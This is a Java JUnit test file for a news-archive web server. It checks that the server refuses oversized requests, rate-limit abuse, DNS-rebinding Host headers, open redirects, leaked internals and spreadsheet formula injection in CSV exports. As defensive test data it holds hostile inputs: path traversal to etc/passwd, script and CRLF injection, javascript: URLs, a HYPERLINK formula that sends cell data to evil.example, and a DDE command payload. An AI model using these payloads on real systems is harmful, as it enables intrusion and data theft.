package org.lede.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.lede.article.Article;
import org.lede.export.CsvReader;
import org.lede.library.Library;
import org.lede.source.Document;
import org.lede.source.MediaType;

/**
 * What the server refuses and how: requests too large or too fast, requests addressed to a name that is not this
 * computer's, return addresses that lead off-site, errors that would tell a client about the server's insides, and
 * exported cells a spreadsheet would run.
 */
class RefusalsTest {
  /** Text that only an exception, a stack trace, SQL or a file path would put in an answer. */
  private static final List<String> INTERNALS = List.of("Exception", "java.", "org.lede", "\tat ", "SQLITE", "jdbc:",
      "For input string", "NullPointer", "lede.db", "web.db");
  private static final List<String> HOSTILE_VALUES = List.of("%00", "%27%22%3E%3Cscript%3E", "99999999999999999999", "-1",
      "abc", "..%2F..%2Fetc%2Fpasswd", "%FF%FE", "a".repeat(3000), "2024-13-45", "%E2%80%AE");

  @TempDir static Path tmp;
  static Library library;
  static WebServer server;
  static Http http;
  static String id;

  /** A headline and a byline a spreadsheet would run as formulas, were they written as they are. */
  static final String FORMULA_HEADLINE = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Tide tables\")";
  static final String FORMULA_BYLINE = "@SUM(1+1)*cmd|' /C calc'!A0";

  @BeforeAll
  static void start() {
    library = TestNews.library(tmp);
    id = TestNews.hostileId(library);
    Article formulas = Article.builder().canonicalUrl("https://tides.example/a/1")
        .site("+Tide Times").headline(FORMULA_HEADLINE).byline(List.of(FORMULA_BYLINE))
        .addParagraph("-1+2 metres is the spring tide forecast for the harbour mouth on Saturday, the tide office said.")
        .build();
    library.ingest(new Document("https://tides.example/a/1", formulas.text().getBytes(StandardCharsets.UTF_8),
        MediaType.TEXT_DUMP, null, null, null),
        List.of(formulas));
    library.commit();
    server = WebServer.start(library, new WebConfig("127.0.0.1", 0, Clock.systemUTC()));
    http = new Http(server.url());
  }

  @AfterAll
  static void stop() {
    server.close();
    library.close();
  }

  @Test
  void no_answer_to_any_bad_parameter_shows_an_exception_sql_or_a_path() {
    Map<String, List<String>> routes = Map.ofEntries(
        Map.entry("/search", List.of("q", "site", "month", "sort", "page", "since", "until", "speaker", "group")),
        Map.entry("/api/v1/search", List.of("q", "limit", "cursor", "month", "sort")),
        Map.entry("/api/v1/quotes", List.of("q", "speaker", "cursor", "limit")),
        Map.entry("/api/v1/entities", List.of("type", "limit", "cursor", "q")),
        Map.entry("/api/v1/articles/" + id + "/quotes", List.of("cursor", "limit")),
        Map.entry("/api/v1/stories", List.of("limit", "cursor")),
        Map.entry("/api/v1/export", List.of("format", "q", "limit")),
        Map.entry("/api/v1/attention", List.of("q", "since", "until", "interval", "measure")),
        Map.entry("/api/v1/said", List.of("q", "since", "until")),
        Map.entry("/explore", List.of("q", "since", "until", "interval", "said")),
        Map.entry("/feeds/search.atom", List.of("q", "site")),
        Map.entry("/feeds/entity.json", List.of("id")),
        Map.entry("/feeds/story.rss", List.of("id")),
        Map.entry("/e/P:nobody", List.of("kind")));
    int refused = 0;
    for (var route : routes.entrySet()) {
      for (String param : route.getValue()) {
        for (String value : HOSTILE_VALUES) {
          String path = route.getKey() + "?q=harbour&" + param + "=" + value;
          HttpResponse<String> r = http.get(path);
          assertThat(r.statusCode()).as(path).isLessThan(500);
          for (String internal : INTERNALS) assertThat(r.body()).as(path).doesNotContain(internal);
          if (r.statusCode() >= 400) {
            // an answer names the input each article came from, by design (the JSON Lines "input"); an error names none
            assertThat(r.body()).as(path).doesNotContain(tmp.toString());
            refused++;
          }
        }
      }
    }
    for (String path : List.of("/a/%00", "/a/" + "f".repeat(500), "/story/99999999999999999999", "/s/%2F%2Fevil.example",
        "/api/v1/entities/%25ZZ", "/api/v1/articles/..%2F..%2Fetc%2Fpasswd")) {
      HttpResponse<String> r = http.get(path);
      assertThat(r.statusCode()).as(path).isBetween(400, 499);
      for (String internal : INTERNALS) assertThat(r.body()).as(path).doesNotContain(internal);
    }
    assertThat(refused).as("the sweep reached the parameter checks, which refused").isGreaterThan(20);
  }

  @Test
  void a_csv_export_writes_cells_a_spreadsheet_would_run_as_text() {
    HttpResponse<String> csv = http.get("/api/v1/export?format=csv&q=tide");
    assertThat(csv.statusCode()).isEqualTo(200);
    List<List<String>> rows = CsvReader.parse(csv.body());
    List<String> header = rows.get(0);
    List<String> row = rows.stream().filter(r -> r.get(header.indexOf("site")).contains("Tide Times")).findFirst().orElseThrow();
    assertThat(row.get(header.indexOf("headline"))).isEqualTo("'" + FORMULA_HEADLINE);
    assertThat(row.get(header.indexOf("site"))).isEqualTo("'+Tide Times");
    assertThat(row.get(header.indexOf("byline"))).isEqualTo("'" + FORMULA_BYLINE);
    assertThat(row.get(header.indexOf("text"))).startsWith("'-1+2 metres");
    for (List<String> r : rows) {
      for (String cell : r) assertThat(cell).as("no cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("@");
    }
  }

  @Test
  void a_refused_follow_names_the_parameter_and_not_the_code_that_refused_it() {
    HttpResponse<String> r = http.post("/api/v1/follows", "application/json", "{\"kind\":\"site\",\"value\":\"" + "x".repeat(201) + "\"}");
    assertThat(r.statusCode()).isEqualTo(400);
    assertThat(r.body()).contains("value: a name is at most 200 characters");
  }

  @Test
  void a_body_over_64_kb_or_without_a_length_is_refused_before_it_is_read() {
    String big = "{\"kind\":\"site\",\"value\":\"" + "x".repeat(100_000) + "\"}";
    assertThat(http.post("/api/v1/follows", "application/json", big).statusCode()).isEqualTo(413);
    String chunk = Integer.toHexString(big.length()) + "\r\n" + big + "\r\n0\r\n\r\n";
    String chunked = RawHttp.send(server.port(), "POST /api/v1/follows HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + chunk);
    assertThat(RawHttp.status(chunked)).as(chunked).isEqualTo(411);
    assertThat(http.get("/search?q=" + "a".repeat(100_000)).statusCode()).as("a 100 KB URL").isEqualTo(414);
    assertThat(http.get("/api/v1/follows").body()).doesNotContain("xxxxxxxxxx");
  }

  @Test
  void a_loopback_server_answers_only_to_loopback_names_so_a_rebound_name_gets_nothing() {
    String rebound = RawHttp.send(server.port(), "GET /api/v1/follows HTTP/1.1\r\nHost: news.evil.example\r\nConnection: close\r\n\r\n");
    assertThat(RawHttp.status(rebound)).isEqualTo(421);
    String write = RawHttp.send(server.port(), "POST /api/v1/follows HTTP/1.1\r\nHost: news.evil.example:" + server.port()
        + "\r\nOrigin: http://news.evil.example:" + server.port() + "\r\nContent-Type: application/json\r\nContent-Length: 38"
        + "\r\nConnection: close\r\n\r\n{\"kind\":\"site\",\"value\":\"Evil Herald\"}");
    assertThat(RawHttp.status(write)).isEqualTo(421);
    assertThat(http.get("/api/v1/follows").body()).doesNotContain("Evil Herald");
    for (String name : List.of("localhost", "localhost:" + server.port(), "127.0.0.1:" + server.port(), "[::1]:" + server.port())) {
      String ok = RawHttp.send(server.port(), "GET /api/v1/follows HTTP/1.1\r\nHost: " + name + "\r\nConnection: close\r\n\r\n");
      assertThat(RawHttp.status(ok)).as(name).isEqualTo(200);
    }
    assertThat(Guard.loopbackName("127.0.0.1.evil.example")).isFalse();
    assertThat(Guard.loopbackName("localhost.evil.example")).isFalse();
    assertThat(Guard.loopbackName("[::1].evil.example")).isFalse();
  }

  @Test
  void a_client_over_its_rate_gets_429_with_retry_after_and_a_write_costs_ten_reads(@TempDir Path dir) {
    try (Library empty = Library.open(dir);
         WebServer limited = WebServer.start(empty, new WebConfig("127.0.0.1", 0, Clock.systemUTC()).withRateLimit(new RateLimit(1, 12, true)))) {
      Http client = new Http(limited.url());
      assertThat(client.post("/api/v1/follows", "application/json", "{\"kind\":\"site\",\"value\":\"Harbour Herald\"}").statusCode())
          .isEqualTo(201);
      assertThat(client.get("/api/v1/follows").statusCode()).isEqualTo(200);
      assertThat(client.get("/api/v1/follows").statusCode()).isEqualTo(200);
      HttpResponse<String> refused = client.get("/api/v1/follows");
      assertThat(refused.statusCode()).isEqualTo(429);
      assertThat(refused.headers().firstValue("Retry-After")).hasValueSatisfying(s -> assertThat(Integer.parseInt(s)).isBetween(1, 2));
      assertThat(refused.body()).contains("Too many requests");
    }
  }

  @Test
  void the_table_of_clients_stays_bounded_when_addresses_flood_in() {
    long[] now = {0};
    RateLimits limits = new RateLimits(new RateLimit(10, 40, true), () -> now[0]);
    for (int i = 0; i < RateLimits.MAX_CLIENTS * 3; i++) {
      assertThat(limits.take("198.51.100." + i, 1)).isZero();
      now[0] += 1_000_000; // a millisecond apart
    }
    assertThat(limits.clients()).isLessThanOrEqualTo(RateLimits.MAX_CLIENTS);
    for (int i = 0; i < 40; i++) limits.take("203.0.113.9", 1);
    assertThat(limits.take("203.0.113.9", 1)).as("an empty bucket waits a tenth of a second").isEqualTo(100_000_000L);
  }

  @Test
  void no_redirect_leads_off_this_server() {
    for (String back : List.of("//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example",
        "/\r\nLocation: https://evil.example", "javascript:alert(1)")) {
      HttpResponse<String> r = http.post("/follows", "application/x-www-form-urlencoded",
          Http.form(Map.of("kind", "site", "value", "Harbour Herald", "return", back)));
      assertThat(r.statusCode()).as(back).isEqualTo(303);
      assertThat(r.headers().firstValue("Location")).as(back).hasValue("/");
    }
    String code = ShortCodes.encode(id).orElseThrow();
    assertThat(http.get("/s/" + code).headers().firstValue("Location")).hasValue("/a/" + id);
    for (String forged : List.of("%2F%2Fevil.example", "..%2F..%2F", "%0d%0aLocation:evil", code + "%2F%2Fevil.example")) {
      HttpResponse<String> r = http.get("/s/" + forged);
      assertThat(r.statusCode()).as(forged).isIn(400, 404);
      assertThat(r.headers().firstValue("Location")).as(forged).isEmpty();
    }
    HttpResponse<String> feed = http.get("/feeds/search.atom?q=harbour");
    // the hostile article's own canonical URL is javascript:: a feed links to Lede's page for it, never to that
    assertThat(feed.body()).contains("/a/" + id).doesNotContain("href=\"javascript:").doesNotContain("href=\"data:")
        .doesNotContain("<link href=\"javascript:");
  }
}
